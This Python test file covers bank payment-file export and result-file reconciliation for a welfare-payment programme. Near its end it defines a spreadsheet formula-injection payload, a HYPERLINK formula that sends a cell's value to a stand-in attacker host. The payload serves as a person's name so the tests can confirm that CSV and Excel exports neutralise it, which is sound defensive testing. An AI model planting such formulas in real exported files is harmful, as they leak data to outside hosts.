"""The bank file (header, checksum, full accounts) and the bank's result file in CSV and Excel."""

from __future__ import annotations

import datetime as dt
import hashlib
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from guanhuai.core.errors import ValidationError
from guanhuai.core.testing import xlsx_bytes
from guanhuai.programmes import bankfiles
from guanhuai.programmes.services import payments
from guanhuai.programmes.tests.cycle_fixtures import (
    approve_all,
    enrol,
    generate,
    person,
    programme,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def batch(tree, staff):
    prog = programme(tree, staff, amount="590.00", code="tefu")
    for name, account in (("王建国", "6228480402564890018"), ("李秀英", "6217002710000684874")):
        enrol(prog, person(staff.registrar, tree.village_a, name, account=account))
    cycle = approve_all(staff, generate(staff, prog, "2026-12"))
    [b] = payments.batches_create(actor=staff.finance, cycle=cycle)
    return b


def test_the_csv_bank_file_has_count_total_checksum_and_full_accounts(batch, staff):
    name, content = payments.batch_export(actor=staff.finance, batch=batch, fmt="csv")
    assert name == "tefu-2026-12-01.csv"
    assert content.startswith("\ufeff".encode())  # Excel opens UTF-8 with a BOM
    f = bankfiles.read_payment_file(content)
    assert (f["number"], f["count"], f["total"]) == ("tefu-2026-12-01", 2, Decimal("1180.00"))
    assert f["header"] == ["行号", "户名", "银行账号", "金额", "开户银行"]
    assert [(n, who, acct, amt) for n, who, acct, amt, _bank in f["lines"]] == [
        (1, "王建国", "6228480402564890018", Decimal("590.00")),
        (2, "李秀英", "6217002710000684874", Decimal("590.00")),
    ]
    # the checksum is SHA-256 over the canonical lines, so the bank can recompute it
    canonical = "1|6228480402564890018|王建国|590.00\n2|6217002710000684874|李秀英|590.00"
    assert f["checksum"] == hashlib.sha256(canonical.encode()).hexdigest()
    batch.refresh_from_db()
    assert (batch.status, batch.checksum) == ("exported", f["checksum"])
    # no resident ID in the file: banks credit by account and name (minimum necessary)
    text = content.decode("utf-8-sig")
    assert all(p.person.id_number not in text for p in batch.payments.select_related("person"))


def test_the_excel_bank_file_keeps_accounts_as_text(batch, staff):
    name, content = payments.batch_export(actor=staff.finance, batch=batch, fmt="xlsx")
    assert name.endswith(".xlsx")
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
    assert rows[0] == ("批次号", "tefu-2026-12-01") + (None,) * 3 or rows[0][:2] == (
        "批次号",
        "tefu-2026-12-01",
    )
    assert rows[1][:2] == ("笔数", "2") and rows[2][:2] == ("总金额", "1180.00")
    assert rows[5][2] == "6228480402564890018"


def test_an_unknown_export_format_is_refused(batch, staff):
    with pytest.raises(ValidationError):
        payments.batch_export(actor=staff.finance, batch=batch, fmt="pdf")


def test_a_result_file_in_excel_reconciles_with_full_account_numbers(batch, staff):
    payments.batch_export(actor=staff.finance, batch=batch)
    content = xlsx_bytes(
        [
            ["批次号", batch.number],
            ["笔数", 2],
            ["总金额", 1180],
            bankfiles.RESULT_HEADER,
            [1, "6228480402564890018", 590, "成功", "", dt.date(2026, 12, 20)],
            [2, "6217002710000684874", "590.00", "失败", "账户冻结", "2026/12/21"],
        ]
    )
    result = payments.batch_import_results(
        actor=staff.finance, batch=batch, file_name="r.xlsx", content=content
    )
    assert (result.paid, result.failed, result.problems) == (1, 1, [])
    failed = batch.payments.get(line_no=2)
    assert (failed.failure_reason, failed.settled_on) == ("账户冻结", dt.date(2026, 12, 21))


def test_a_full_account_number_that_differs_is_a_problem_even_with_the_same_last_four(batch, staff):
    payments.batch_export(actor=staff.finance, batch=batch)
    content = bankfiles.result_csv(
        batch.number,
        [
            (1, "9999990402564890018", Decimal("590.00"), True, "", dt.date(2026, 12, 20)),
            (2, "0018", Decimal("590.00"), True, "", dt.date(2026, 12, 20)),
        ],
    )
    result = payments.batch_import_results(
        actor=staff.finance, batch=batch, file_name="r.csv", content=content
    )
    assert result.paid == 0
    assert [p["line_no"] for p in result.problems] == [1, 2]
    assert all("账号不符" in p["problem"] for p in result.problems)


@pytest.mark.parametrize(
    "text, message",
    [
        ("批次号,X\n笔数,1\n", "第3行应为“总金额"),
        ("批次号,X\n笔数,a\n总金额,1\n行号\n", "不是数字"),
        ("批次号,X\n笔数,1\n总金额,1\n行号,账号\n", "第4行应为"),
        ("hello\n", "第1行应为“批次号"),
    ],
)
def test_malformed_result_files_name_what_is_wrong(text, message):
    with pytest.raises(ValidationError) as exc:
        bankfiles.parse_result_file(text.encode())
    assert message in str(exc.value)


def test_rows_that_cannot_be_read_are_kept_with_their_problem():
    content = "批次号,X\n笔数,1\n总金额,590.00\n行号,银行账号,金额,结果,失败原因,日期\n1,1234,590.00,也许,,2026-13-45\n"
    sheet = bankfiles.parse_result_file(content.encode())
    [row] = sheet.rows
    assert "应为“成功”或“失败”" in row.problem and "日期" in row.problem


HOSTILE = '=HYPERLINK("http://evil.example/?"&C7,"x")'


@pytest.fixture
def hostile_batch(tree, staff):
    prog = programme(tree, staff, amount="590.00", code="tefu")
    enrol(prog, person(staff.registrar, tree.village_a, HOSTILE, account="6228480402564890018"))
    cycle = approve_all(staff, generate(staff, prog, "2026-12"))
    [b] = payments.batches_create(actor=staff.finance, cycle=cycle)
    return b


def test_a_name_that_is_a_formula_is_written_as_text_in_the_csv_bank_file(hostile_batch, staff):
    _name, content = payments.batch_export(actor=staff.finance, batch=hostile_batch, fmt="csv")
    f = bankfiles.read_payment_file(content)
    [(_n, who, account, amount, _bank)] = f["lines"]
    assert who == "'" + HOSTILE
    assert (account, amount) == ("6228480402564890018", Decimal("590.00"))
    # the checksum is over the name as the bank receives it
    canonical = f"1|6228480402564890018|'{HOSTILE}|590.00"
    assert f["checksum"] == hashlib.sha256(canonical.encode()).hexdigest()


def test_a_name_that_is_a_formula_is_not_a_formula_in_the_excel_bank_file(hostile_batch, staff):
    _name, content = payments.batch_export(actor=staff.finance, batch=hostile_batch, fmt="xlsx")
    ws = load_workbook(io.BytesIO(content)).active
    cell = ws.cell(row=6, column=2)
    assert (cell.value, cell.data_type) == ("'" + HOSTILE, "s")
